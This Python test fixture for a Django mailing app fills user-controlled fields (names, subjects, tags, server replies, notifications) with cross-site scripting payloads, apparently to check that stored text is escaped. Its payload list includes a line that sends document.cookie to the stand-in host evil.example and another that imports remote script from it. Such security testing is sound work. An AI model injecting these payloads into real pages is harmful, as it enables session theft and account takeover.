"""Rows whose every stored text is an attempt to run something in the reader's browser.

Whatever people type, files carry or servers answer is somebody else's text: names, subjects, tags,
replies of mail servers, errors of imports and of accounts, the facts of a notice.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle
from typing import Any, Final

from django.utils import timezone

from apps.core.responses.stored import foreign
from apps.delivery.models import AccountState
from apps.mailings.attachments import keep
from apps.mailings.models import (
    Attachment,
    ContentUse,
    MessageDraft,
    MessageVersion,
    RecipientImport,
    Run,
    Suppression,
)
from apps.users.models import Notification, User
from tests.factories import (
    AttemptFactory,
    DeliveryFactory,
    MailingFactory,
    MessageFactory,
    RecipientFactory,
    RunFactory,
    TagFactory,
)
from tests.mailings.media.library import drawn

_SCRIPTS: Final = (
    "alert(1)",
    "import('//evil.example/x.js')",
    "fetch('//evil.example?'+document.cookie)",
)
_SHAPES: Final = (
    "<script>{}</script>",
    '"><script>{}</script>',
    "'><svg onload={}>",
    "<img src=x onerror={}>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus='",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '<a href="javascript:{}">here</a>',
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<math><mtext><style><img src=x onerror={}>",
    '<b hx-get="/accounts/logout/" hx-trigger="load">{}</b>',
    '<b hx-on::load="{}">x</b>',
    "<style>@import '//evil.example'; /*{}*/</style>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">{}',
)
#: Sixty of them, as long as the shortest column that holds people's words.
PAYLOADS: Final = tuple(shape.format(script)[:75] for script in _SCRIPTS for shape in _SHAPES)


def fill(owner: User) -> Run:
    """Rows of ``owner`` that hold every payload somewhere. Gives the first mailing's run."""
    texts = cycle(PAYLOADS)
    User.objects.filter(pk=owner.pk).update(
        first_name=next(texts), last_name=next(texts), phone="+7", country=next(texts)[:60]
    )
    runs = [_mailing(owner, texts) for _number in range(3)]
    for number in range(4):
        _recipient(owner, texts, number)
    _imports(owner, texts)
    _notifications(owner, texts)
    AccountState.objects.update_or_create(
        name="email",
        defaults={"last_error": foreign(next(texts)), "quota_error": foreign(next(texts))},
    )
    return runs[0]


def _mailing(owner: User, texts: Iterator[str]) -> Run:
    message = MessageFactory.create(
        owner=owner, subject=next(texts), text=next(texts), html=next(texts) + next(texts)
    )
    MessageVersion.objects.create(
        message=message, number=1, subject=next(texts), text=next(texts), html=next(texts)
    )
    MessageDraft.objects.create(
        owner=owner, message=message, subject=next(texts), text=next(texts), html=next(texts)
    )
    Attachment.objects.create(
        message=message, name=next(texts), content_type="text/plain", size=2, sha256=keep(b"hi")
    )
    media = drawn(owner, name=next(texts), alt=next(texts))
    ContentUse.objects.create(media=media, message=message)
    mailing = MailingFactory.create(owner=owner, message=message, name=next(texts))
    run = RunFactory.create(
        mailing=mailing,
        state="deferred",
        reason="channel_down",
        reason_detail=next(texts),
        deferred_until=timezone.now(),
        failed=1,
        unknown=1,
        bounced=1,
    )
    for state in ("failed", "unknown", "bounced"):
        recipient = _recipient(owner, texts, f"{run.pk}{state}")
        delivery = DeliveryFactory.create(
            run=run, recipient=recipient, state=state, code=550, response=next(texts)
        )
        AttemptFactory.create(delivery=delivery, status="failure", response=next(texts))
    return run


def _recipient(owner: User, texts: Iterator[str], number: Any) -> Any:
    recipient = RecipientFactory.create(
        owner=owner,
        email=f"r{number}@example.org",
        full_name=next(texts),
        comment=next(texts),
        attributes={f"field{number}": next(texts)},
    )
    recipient.tags.add(TagFactory.create(owner=owner, name=next(texts) + str(number)))
    Suppression.objects.create(owner=owner, address=f"r{number}@example.org", reason="bounced")
    return recipient


def _imports(owner: User, texts: Iterator[str]) -> None:
    for state in ("done", "failed"):
        RecipientImport.objects.create(
            owner=owner, source=next(texts), state=state, error=next(texts), mapping={"a": "b"}
        )


def _notifications(owner: User, texts: Iterator[str]) -> None:
    facts: dict[str, dict[str, Any]] = {
        "run_waits": {
            "name": next(texts),
            "reason": "channel_down",
            "detail": next(texts),
            "until": "",
        },
        "run_ended": {"name": next(texts), "failed": 1, "unknown": 0, "expired": 0},
        "start_missed": {"name": next(texts)},
        "account_down": {"account": next(texts), "error": next(texts)},
        next(texts)[:40]: {},
    }
    for code, values in facts.items():
        Notification.objects.create(owner=owner, code=code, key=code, facts=values)
